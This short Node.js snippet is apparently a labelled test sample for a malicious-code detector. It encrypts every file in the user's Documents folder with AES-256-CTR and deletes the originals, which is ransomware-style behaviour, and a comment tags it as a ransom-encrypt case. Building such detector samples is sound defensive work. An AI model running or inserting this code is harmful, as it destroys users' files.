const crypto = require('crypto');
const fs = require('fs');
const os = require('os');

const folder = `${os.homedir()}/Documents`;
fs.readdirSync(folder).forEach((name) => {
  const cipher = crypto.createCipheriv('aes-256-ctr', Buffer.alloc(32), Buffer.alloc(16)); // expect: malicious-command/ransom-encrypt
  fs.writeFileSync(`${folder}/${name}.x`, cipher.update(fs.readFileSync(`${folder}/${name}`)));
  fs.rmSync(`${folder}/${name}`);
});
